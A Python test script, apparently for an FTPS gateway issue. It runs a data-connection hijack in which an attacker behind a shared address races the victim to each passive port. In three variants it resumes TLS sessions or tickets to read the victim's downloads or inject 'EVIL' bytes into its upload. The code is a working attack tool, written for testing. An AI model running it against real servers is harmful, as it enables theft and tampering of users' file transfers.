#!/usr/bin/python3
"""A data-connection thief and its victim, on one address (issue 12, part 1).

    theft.py HOST CAFILE USER PASSWORD ATTACK TLS GETFILE PUTNAME PUTSIZE

Runs in the client namespace: the victim is a well-behaved FTPS client
(data connections resume its control session, as ProFTPD requires); the
attacker shares its address, as behind carrier-grade NAT, and always
reaches the victim's passive port first. ATTACK is one of

  a  the attacker connects to the victim's first passive port with a full
     TLS handshake and keeps whatever ticket it is given there; on the
     victim's next passive ports it resumes that ticket;
  b  the attacker opens a control connection of its own (AUTH TLS, no
     login) and resumes that session on the victim's passive ports;
  c  as b, in TLS 1.2, with a session ID only, offering an empty ticket
     extension on the data connection.

TLS is the highest version both sides may use (1.2 or 1.3). The victim
downloads GETFILE on each passive port and finally uploads PUTSIZE
deterministic bytes as PUTNAME. Prints one JSON object per step:
{"step", "attacker_got", "attacker_sent", "attacker_resumed", "victim":
"ok"|error, "victim_sha256", ...}, then "DONE". Every socket operation has
a timeout; the script never waits longer than about a minute in all.
"""

import ftplib
import hashlib
import json
import socket
import ssl
import sys
import threading

host, cafile, user, pw, attack, tls, getfile, putname, putsize = sys.argv[1:10]
putsize = int(putsize)
T = 10          # seconds, every socket operation


def context():
    ctx = ssl.create_default_context(cafile=cafile)
    ctx.maximum_version = (ssl.TLSVersion.TLSv1_2 if tls == "1.2"
                           else ssl.TLSVersion.TLSv1_3)
    return ctx


def upload_bytes():
    return bytes((i * 131 + (i >> 8)) & 0xFF for i in range(putsize))


class Victim:
    def __init__(self):
        self.f = ftplib.FTP_TLS(context=context(), timeout=T)
        self.f.connect(host, 21)
        self.f.auth()
        self.f.login(user, pw)
        self.f.prot_p()
        self.f.voidcmd("TYPE I")

    def pasv(self):
        return ftplib.parse227(self.f.sendcmd("PASV"))[1]

    def transfer(self, port, cmd, data=None):
        """RETR (data None) or STOR; returns ("ok", bytes) or (error, b"")."""
        s = None
        sent = False
        try:
            s = socket.create_connection((host, port), timeout=5)
            sent = True
            self.f.sendcmd(cmd)
            s = self.f.context.wrap_socket(s, server_hostname=host,
                                           session=self.f.sock.session)
            got = bytearray()
            if data is None:
                while True:
                    b = s.recv(65536)
                    if not b:
                        break
                    got += b
            else:
                s.sendall(data)
            s.unwrap()
            s.close()
            s = None
            self.f.voidresp()
            return "ok", bytes(got)
        except (OSError, ftplib.Error, EOFError) as e:
            if s is not None:
                s.close()
            if sent and not isinstance(e, ftplib.Error):
                try:       # the final reply of the failed transfer
                    e = f"{e} / then {self.f.getresp()}"
                except (OSError, ftplib.Error, EOFError) as e2:
                    e = f"{e} / then {e2}"
            return f"error: {e}", b""


class Attacker:
    def __init__(self):
        self.ctx = context()
        self.session = None     # what it will resume
        self.control = None

    def own_control_session(self):
        """A control connection of its own: AUTH TLS, no account."""
        if attack == "c":
            self.ctx.options |= ssl.OP_NO_TICKET     # session ID only
        self.control = ftplib.FTP_TLS(context=self.ctx, timeout=T)
        self.control.connect(host, 21)
        self.control.auth()
        self.control.sendcmd("FEAT")    # reads: TLS 1.3 tickets arrive
        self.session = self.control.sock.session
        if attack == "c":
            self.ctx.options &= ~ssl.OP_NO_TICKET    # offer an empty one

    def race(self, port, upload):
        """Connect first; returns a dict of what happened. The reading or
        writing runs in a thread so the victim can go on meanwhile."""
        res = {"attacker_got": 0, "attacker_sent": 0,
               "attacker_resumed": False, "attacker_ticket": False}
        try:
            s = socket.create_connection((host, port), timeout=T)
        except OSError as e:
            res["attacker_connect"] = str(e)
            return res, None
        offered = self.session
        try:
            s = self.ctx.wrap_socket(s, server_hostname=host,
                                     session=offered)
            res["attacker_resumed"] = s.session_reused
        except (OSError, ValueError) as e:
            res["attacker_tls"] = str(e)
            s.close()
            return res, None

        def run():
            try:
                s.settimeout(6)
                if upload:
                    evil = b"EVIL" * 16384
                    s.sendall(evil)
                    res["attacker_sent"] = len(evil)
                    s.unwrap()
                else:
                    while True:
                        b = s.recv(65536)
                        if not b:
                            break
                        res["attacker_got"] += len(b)
            except (OSError, ValueError) as e:
                res["attacker_end"] = str(e)
            got = s.session     # a new ticket, not the one it offered
            if got is not None and got.has_ticket and (
                    offered is None or got.id != offered.id):
                res["attacker_ticket"] = True
            if attack == "a" and got is not None:
                # Keep it, ticket or session ID: it may carry the token,
                # and a refused connection's session must not even stay
                # resumable.
                self.session = got
            s.close()

        t = threading.Thread(target=run)
        t.start()
        return res, t


def step(name, victim, attacker, upload):
    port = victim.pasv()
    res, t = attacker.race(port, upload)
    if t is not None:
        # The gateway decides on the attacker's handshake before the victim
        # comes: on today's main it has taken the channel by then.
        t.join(0.5 if upload else 1.0)
    data = upload_bytes() if upload else None
    verdict, got = victim.transfer(
        port, f"STOR {putname}" if upload else f"RETR {getfile}", data)
    if t is not None:
        t.join(15)
    res.update(step=name, victim=verdict,
               victim_sha256=hashlib.sha256(got).hexdigest() if not upload
               else hashlib.sha256(data).hexdigest(), victim_bytes=len(got))
    print(json.dumps(res), flush=True)


def main():
    victim = Victim()
    attacker = Attacker()
    if attack in ("b", "c"):
        attacker.own_control_session()
    step("first", victim, attacker, upload=False)
    step("second", victim, attacker, upload=False)
    step("upload", victim, attacker, upload=True)
    victim.f.quit()
    if attacker.control is not None:
        attacker.control.close()
    print("DONE", flush=True)


main()
